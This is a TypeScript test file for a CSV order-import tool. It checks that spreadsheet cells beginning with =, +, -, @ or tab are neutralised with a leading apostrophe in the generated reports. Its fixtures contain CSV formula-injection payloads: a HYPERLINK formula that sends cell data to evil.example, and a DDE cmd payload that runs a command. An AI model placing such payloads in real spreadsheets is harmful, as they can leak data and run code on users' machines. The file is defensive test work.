import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';

import { put, tempDir } from '../helpers/files.js';
import { type TestPipeline, testPipeline } from '../helpers/pipeline.js';

const HEADER = [
  'reference',
  'property_type',
  'address1',
  'address2',
  'city',
  'postal_code',
  'contact_name',
  'contact_language',
  'contact_email',
  'contact_phone1',
  'remark',
  'inv_mail',
  'invoice_to',
  'is_contact_owner',
  'order_products',
  'breaker_boxes',
];

/** Cells Excel would run as formulas, in every column where a user may write them. */
function hostileRow(n: number, cells: Record<string, string> = {}): Record<string, string> {
  return {
    reference: `-R${n}`,
    property_type: 'Andere',
    address1: '=HYPERLINK("http://evil.example/?d="&A1;"klik")',
    address2: `@${n}`,
    city: 'Gent',
    postal_code: '9000',
    contact_name: `=cmd|' /C calc'!A${n}`,
    contact_language: 'nl',
    contact_email: `c${n}@example.be`,
    contact_phone1: '+32 470 12 34 56',
    remark: '-- bel eerst',
    inv_mail: 'facturen@example.be',
    invoice_to: 'tenant',
    is_contact_owner: 'contact',
    order_products: 'EPC',
    breaker_boxes: '',
    ...cells,
  };
}

async function writeSheet(dir: string, rows: ReadonlyArray<Record<string, string>>) {
  const quote = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  const lines = [
    HEADER.join(';'),
    ...rows.map((r) => HEADER.map((c) => quote(r[c] ?? '')).join(';')),
  ];
  return put(dir, 'orders.csv', `${lines.join('\r\n')}\r\n`);
}

async function readCsv(path: string): Promise<string[][]> {
  const rows: string[][] = parse(await readFile(path, 'utf8'), { bom: true, delimiter: ';' });
  return rows;
}

let open: TestPipeline | undefined;
afterEach(async () => {
  await open?.close();
  open = undefined;
});

describe('cells Excel would run as formulas', () => {
  it('are quoted in report.csv and failed/, and a fixed failed/ sheet sends the user’s own values', async () => {
    const dir = await tempDir('formula-');
    const original = [
      hostileRow(1),
      hostileRow(2, { city: '' }),
      hostileRow(3, { order_products: 'ELEC-1.1', breaker_boxes: '-1' }),
    ];
    const sheet = await writeSheet(dir, original);
    const t = (open = await testPipeline());
    const first = await t.importSheet(sheet);
    expect(first.counts).toMatchObject({ created: 1, invalid: 2 });
    const reportDir = first.reportDir ?? '';

    const report = await readCsv(join(reportDir, 'report.csv'));
    expect(report.map((r) => r[2])).toEqual(['reference', "'-R1", "'-R2", "'-R3"]);
    const failedPath = join(reportDir, 'failed', 'orders.csv');
    const failed = await readCsv(failedPath);
    expect(failed[0]).toEqual([...HEADER, 'order_id', 'source_row', 'error', 'source_sheet']);
    const failedRow = (n: number) => Object.fromEntries(HEADER.map((c, i) => [c, failed[n]?.[i]]));
    expect(failedRow(1)).toMatchObject({
      reference: "'-R2",
      address1: `'=HYPERLINK("http://evil.example/?d="&A1;"klik")`,
      address2: "'@2",
      contact_name: `'=cmd|' /C calc'!A2`,
      contact_phone1: "'+32 470 12 34 56",
      remark: "'-- bel eerst",
    });
    expect(failedRow(2)).toMatchObject({ breaker_boxes: "'-1" });
    // No cell of any file begins with a character Excel runs.
    for (const cell of [...report, ...failed].flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The user fixes the city of row 2 in the failed/ sheet and drops it back.
    const text = await readFile(failedPath, 'utf8');
    const fixed = text
      .replace(';"\'@2";;9000;', ';"\'@2";Gent;9000;')
      .replace(";'@2;;9000;", ";'@2;Gent;9000;");
    expect(fixed).not.toBe(text);
    await writeFile(failedPath, fixed);
    const again = await t.importSheet(failedPath);
    expect(again.counts).toMatchObject({ created: 1, invalid: 1 });

    const secondReport = await readCsv(join(again.reportDir ?? '', 'report.csv'));
    const created = secondReport.find((r) => r[3] === 'created');
    const answer = await t.sandbox.api.getOrder(created?.[4] ?? '');
    expect(answer.status).toBe(200);
    const sent = (answer.json as { data: Record<string, unknown> }).data;
    const mine = original[1] ?? {};
    expect(sent).toMatchObject({
      address1: mine.address1,
      address2: '@2',
      city: 'Gent',
      contact_name: mine.contact_name,
      contact_phone1: '+32 470 12 34 56',
      remark: '-- bel eerst',
    });
    // The row with a negative count is refused again, for the same reason.
    const why = (rows: string[][]) => rows.find((r) => r[2] === "'-R3")?.[8];
    expect(why(secondReport)).toBe(why(report));
    expect(why(report)).toMatch(/breaker_boxes/);
    // The address and the contact are echoed for people, quoted like every other cell; the rows
    // dropped back keep the numbers they had in the first sheet.
    expect(report[1]?.slice(9)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1;"klik") @1, 9000 Gent`,
      `'=cmd|' /C calc'!A1`,
      '',
      '',
    ]);
    expect(secondReport.slice(1).map((r) => [r[0], r[2], r[11]])).toEqual([
      ['1', "'-R2", '2'],
      ['2', "'-R3", '3'],
    ]);
  });

  it('are quoted in needs-review.csv', async () => {
    const dir = await tempDir('formula-review-');
    const sheet = await writeSheet(dir, [hostileRow(1)]);
    const t = (open = await testPipeline({ sandbox: { faults: { pResetAfter: 1 } } }));
    const progress = await t.importSheet(sheet);
    expect(progress.counts).toMatchObject({ 'needs-review': 1 });
    const review = await readCsv(join(progress.reportDir ?? '', 'needs-review.csv'));
    const row = Object.fromEntries(HEADER.map((c, i) => [c, review[1]?.[i]]));
    expect(row).toMatchObject({
      reference: "'-R1",
      address1: `'=HYPERLINK("http://evil.example/?d="&A1;"klik")`,
      contact_name: `'=cmd|' /C calc'!A1`,
      contact_phone1: "'+32 470 12 34 56",
    });
    for (const cell of review.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
